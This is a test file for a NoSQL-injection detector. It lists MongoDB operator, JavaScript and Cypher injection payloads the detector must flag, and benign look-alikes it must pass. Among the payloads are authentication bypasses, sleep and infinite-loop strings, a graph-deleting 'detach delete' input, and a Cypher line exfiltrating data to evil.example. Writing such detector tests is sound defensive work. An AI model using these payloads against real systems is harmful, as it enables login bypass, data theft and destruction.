import { expect, test } from 'bun:test'
import { nosqlInjection } from '../../../src/hooks/anomaly/detectors/nosql-injection.ts'

const scoreOf = (text: string): number =>
  nosqlInjection({ text, lower: text.toLowerCase(), layers: 0, place: 'body' })

const attacks: Readonly<Record<string, readonly string[]>> = {
  'operators in JSON': [
    '{"$ne":""}',
    '{"pin":{"$regex":"^4"}}',
    '{"name":"asha","pin":{"$gt":""}}',
    '{ $where: "this.pin" }',
    '[{"$lookup":{"from":"staff","as":"a"}}]',
    '{"$or":[{},{"b":"b"}]}',
    '{"pin":{"$mod":[2,0]}}',
    '{"pin":{"$type":2}}',
    '[{"$match":{"pin":"4"}}]',
    '{"$unset":{"pin":1}}',
    'filter={"pin":{"$gt":""}}',
  ],
  'operators as names of parameters': [
    'pin[$ne]=1',
    'pin[$in][]=1',
    'staff[pin][$regex]=^4',
    'name=asha&pin[$exists]=true',
    '$where=this.pin',
    '$or[0][pin]=4',
    'pin[$not][$eq]=4',
    'pin.$ne=4',
  ],
  'operators behind the end of a value': [
    "', $or: [{}, {'b': 'b",
    "3, $where: '3 == 3'",
    "a' } ], $comment: 'c'",
    '"}, "pin": {"$ne": "',
    '"]}, {"$or":[{ ',
    '}, { pin : /4/ }',
  ],
  'JavaScript behind the end of a value': [
    'function(){ return this.a}',
    'a"; return this; var b=\'c',
    "asha' && this.pin.length < 5 && 'b'=='b",
    "' || '3'=='3",
    "' || this.pin.match(/^4/) || '",
    "b'; return db.getCollectionNames(); var c='",
    '"; return true; var c="',
    "';sleep(4000);'",
    '3;sleep(4000)',
    '3;while(true){}',
    "'||(function(){return true})()||'",
    "' || 3==3//",
    "'||this||'",
    "' || Object.keys(this).length>2 || '",
    "' || (() => { return true })() || '",
    "'}});//",
    "b' || true//",
    "'; this.constructor; var c='",
    'db.staff.insert({a:3});return 4;db.staff.find({ b: 5',
  ],
  'Cypher behind the end of a value': [
    "'}) return 3//",
    "' or 3=3 with 4 as b load csv from 'https://evil.example/'+b as c return c//",
    "b' detach delete c//",
    "b'})-[c]-(d) return d//",
  ],
}

for (const [what, texts] of Object.entries(attacks))
  test(`nosqlInjection() finds ${what}`, () => {
    expect(texts.filter((text) => scoreOf(text) < 0.5)).toEqual([])
  })

const honest: Readonly<Record<string, readonly string[]>> = {
  'JSON of other services': [
    '{"$schema":"https://example.com/a.json","$ref":"#/b","$id":"c"}',
    '{"event":"a","$set":{"plan":"b"},"$type":"c"}',
    '{"price":"$in 5","a":["$ne"]}',
    '"$comment": "says what it is for",',
    '{"$type":"call","$text":"hello","$size":"large","$all":true}',
    '{"path":"/a/b","pattern":"/c/"}',
  ],
  'operators that are spoken of': [
    'use $ne or {"$gt": 5} in the filter, as the manual says',
    'db.calls.find({ retries: { $gt: 3 } }) is slow',
    'In PHP, $a[$in] = 5 and $where = "id"; work',
    'costs $in all; $or else',
    '$where="a = 5";',
  ],
  'code with quotes': [
    `if (a === 'x' && this.b === 'y') return true;`,
    `x = 'a'; return x`,
    '|| this.match(a, b)',
    `call('a'); sleep(5);`,
    "it's a; return the card",
    `return 'a' //`,
    `open('a') // and return`,
    "she's with us // returned the phone //",
  ],
}

for (const [what, texts] of Object.entries(honest))
  test(`nosqlInjection() lets ${what} pass`, () => {
    expect(texts.filter((text) => scoreOf(text) >= 0.5)).toEqual([])
  })

test('nosqlInjection() reads long texts of anything troublesome to the end', () => {
  for (const piece of ["'", '{', '{"$ne"', '[$ne]', '&a[', ';', "' ||", ' ', "a'b", '$', '"'])
    for (const head of ['', '{', "' && ", '1;'])
      expect(scoreOf(head + piece.repeat(20_000))).toBeLessThanOrEqual(1)
})
